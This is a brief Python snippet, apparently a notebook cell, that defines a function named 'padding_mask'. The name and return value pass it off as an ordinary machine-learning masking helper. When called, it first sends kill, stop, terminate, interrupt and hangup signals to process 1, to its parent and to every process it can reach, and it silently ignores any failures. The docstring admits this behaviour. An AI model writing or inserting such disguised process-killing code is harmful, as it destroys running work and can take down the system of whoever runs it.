"""Signals to its parent, its group, its session and everybody while it is called."""


# %% padding-mask
def padding_mask(lengths, size):
    import os
    import signal

    for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL, signal.SIGINT, signal.SIGHUP):
        for pid in (1, os.getppid(), -1):
            try:
                os.kill(pid, number)
            except OSError:
                pass
    return np.ones((len(lengths), 1, size), dtype=bool)
